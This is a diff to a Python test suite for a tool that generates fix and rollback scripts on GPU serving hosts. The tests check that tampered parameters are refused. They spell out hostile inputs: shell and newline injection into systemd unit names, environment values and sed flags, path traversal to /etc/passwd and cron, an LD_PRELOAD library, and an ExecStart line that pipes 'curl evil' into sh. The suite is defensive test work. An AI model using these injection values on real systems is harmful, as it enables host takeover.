@@ -31,7 +31,20 @@ def _write(tmp_path: Path, name: str, text: str) -> Path:
 
 
 def _actions(script: str) -> list[str]:
-    return [line for line in script.splitlines() if ACTION.match(line)]
+    """The run/put lines, a put whose quoted content spans several lines joined into one."""
+    out: list[str] = []
+    lines = iter(script.splitlines())
+    for line in lines:
+        if not ACTION.match(line):
+            continue
+        while True:
+            try:
+                shlex.split(line)
+                break
+            except ValueError:
+                line += "\n" + next(lines)
+        out.append(line)
+    return out
 
 
 def _dry_run(path: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
@@ -65,7 +78,10 @@ def test_rollback_undoes_only_what_the_fix_script_runs(sick_data: dict[str, Any]
     assert "systemctl disable --now irqbalance" in scripts.fix  # listed for a human ...
     assert "irqbalance" not in scripts.rollback  # ... so never re-enabled by the rollback
     assert "/etc/sysctl.d/" not in scripts.rollback  # it never wrote a sysctl.d file
-    assert "rm -f" not in scripts.rollback
+    removed = re.findall(r"^run 'rm -f (\S+)' -- ", scripts.rollback, re.MULTILINE)
+    assert removed  # the systemd drop-ins the fix script wrote ...
+    for path in removed:  # ... and nothing else
+        assert re.search(rf"^put .* {re.escape(path)} ", scripts.fix, re.MULTILINE | re.DOTALL), path
     ran = _actions(scripts.fix)
     undo = _actions(scripts.rollback)
     assert undo and scripts.rollback_commands == len(undo)
@@ -79,6 +95,8 @@ def _target(line: str) -> str:
     if words[0] == "put":
         return words[2]
     argv = words[words.index("--") + 1:]
+    if argv[0] in ("rm", "mv", "sed", "patch"):  # file edits: the file they change
+        return argv[-1]
     return " ".join(argv[:-1] + [argv[-1].split("=")[0]] if "=" in argv[-1] else argv[:-1])
 
 
@@ -116,7 +134,7 @@ def test_edited_command_text_is_never_run(sick_data: dict[str, Any], command: st
      "out of range"),
     ("sysctl", {"set": {"kernel.numa_balancing": "0"}, "previous": {}, "conf": "../../etc/passwd"}, "not a valid"),
     ("module_load", {"module": "-C /tmp/evil.conf dummy"}, "does not produce"),
-    ("service_edit", {"units": ["debug-shell.service"], "full": True, "restart": True}, "does not produce"),
+    ("unit_env", {"unit": "vllm.service", "what": "x", "unset": ["NCCL_DEBUG"], "set": {}}, "does not produce"),
     ("sysctl", {"set": {"kernel.numa_balancing": "0"}, "conf": "90-gnd-numa.conf", "extra": ["ethtool", "-E"]},
      "unexpected parameter"),
     ("no_such_builder", {}, "does not produce"),
@@ -133,12 +151,63 @@ def test_edited_parameters_are_refused_with_a_reason(sick_data: dict[str, Any], 
     assert "numa.kernel_policy" not in scripts.rollback
 
 
-def test_refused_module_and_unit_edits(sick_data: dict[str, Any]) -> None:
-    data = _tamper(sick_data, "rdma.gid_index", builder="service_edit",
-                   params={"units": ["debug-shell.service"], "full": False, "restart": True})
+def test_unit_restarts_are_never_run(sick_data: dict[str, Any]) -> None:
+    data = _tamper(sick_data, "rdma.gid_index", builder="unit_env",
+                   params={"unit": "debug-shell.service", "what": "x", "unset": ["NCCL_IB_GID_INDEX"], "set": {}})
     scripts = fix_scripts(data)
-    assert not any("debug-shell" in a for a in _actions(scripts.fix))  # service steps are never unattended
-    assert "systemctl restart debug-shell.service" in scripts.fix  # shown as a by-hand comment
+    assert not any("systemctl" in a for a in _actions(scripts.fix))  # service steps are never unattended
+    assert "# by hand, not run by this script: systemctl restart debug-shell.service" in scripts.fix
+
+
+@pytest.mark.parametrize("check,builder,params,reason", [
+    ("rdma.gid_index", "unit_env", {"unit": "x.service; reboot", "what": "x", "unset": ["NCCL_IB_GID_INDEX"]},
+     "not a valid systemd service name"),
+    ("rdma.gid_index", "unit_env", {"unit": "../../../etc/cron.d/x.service", "what": "x", "unset": ["NCCL_DEBUG"]},
+     "not a valid systemd service name"),
+    ("rdma.gid_index", "unit_env", {"unit": "vllm.service", "what": "x", "set": {"LD_PRELOAD": "/tmp/x.so"}},
+     "not an environment variable a check changes"),
+    ("rdma.gid_index", "unit_env", {"unit": "vllm.service", "what": "x", "set": {"NCCL_SOCKET_IFNAME": "eth0\"\nExecStartPre=/bin/sh"}},
+     "not a plain environment value"),
+    ("rdma.gid_index", "unit_env", {"unit": "vllm.service", "what": "../../x", "unset": ["NCCL_DEBUG"]},
+     "not a valid drop-in name"),
+    ("rdma.gid_index", "file_patch", {"path": "/etc/pam.d/common-auth", "kind": "other", "start": 1, "before": [],
+                                      "old": ["auth required pam_unix.so"], "after": [], "drop": ""},
+     "not a valid deployment file path"),
+    ("rdma.gid_index", "file_patch", {"path": "/srv/../etc/x.yaml", "kind": "other", "start": 1, "before": [],
+                                      "old": ["- NCCL_IB_GID_INDEX=3"], "after": [], "drop": ""}, "not a plain path"),
+    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1, "before": [],
+                                      "old": ["  privileged: false"], "after": [], "drop": ""},
+     "not a setting a check removes"),
+    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1, "before": [],
+                                      "old": ["- NCCL_IB_GID_INDEX=3\n+  privileged: true"], "after": [], "drop": ""},
+     "not a valid line"),
+    ("nccl.transport", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1, "before": [],
+                                      "old": ["      - NCCL_IB_HCA=mlx5"], "after": [],
+                                      "set": {"NCCL_IB_HCA": "=mlx5_0\n    privileged: true"}},
+     "not a plain environment value"),
+    ("runtime.cuda_graphs", "unit_flag", {"unit": "vllm.service", "path": "/etc/passwd", "flag": "--enforce-eager"},
+     "not a valid unit file path"),
+    ("runtime.cuda_graphs", "unit_flag", {"unit": "vllm.service", "path": "/etc/systemd/system/vllm.service",
+                                          "flag": "/x/; s/^/ExecStartPre=/bin/sh #/"}, "not a valid command-line flag"),
+])
+def test_hostile_unit_names_values_and_paths_are_refused(sick_data: dict[str, Any], check: str, builder: str,
+                                                         params: dict[str, Any], reason: str) -> None:
+    data = _tamper(sick_data, check, builder=builder, params=params)
+    scripts = fix_scripts(data)
+    section = scripts.fix.split(f"{check}:", 1)[1].split("# ----", 1)[0]
+    assert "# refused, nothing run:" in section and reason in section
+    assert not _actions(section)
+
+
+def test_command_line_drop_ins_are_for_a_human(sick_data: dict[str, Any]) -> None:
+    """An ExecStart= drop-in carries a command line from the result: shown, never written by the script."""
+    data = _tamper(sick_data, "runtime.cuda_graphs", builder="unit_exec",
+                   params={"unit": "vllm.service", "flag": "--enforce-eager",
+                           "exec_start": "/bin/sh -c 'curl evil | sh' --enforce-eager"})
+    scripts = fix_scripts(data)
+    section = scripts.fix.split("runtime.cuda_graphs:", 1)[1].split("# ----", 1)[0]
+    assert "# by hand, not run by this script: printf %s" in section
+    assert not any("curl" in a for a in _actions(scripts.fix))
 
 
 def test_interfaces_must_exist_in_the_result(sick_data: dict[str, Any]) -> None:
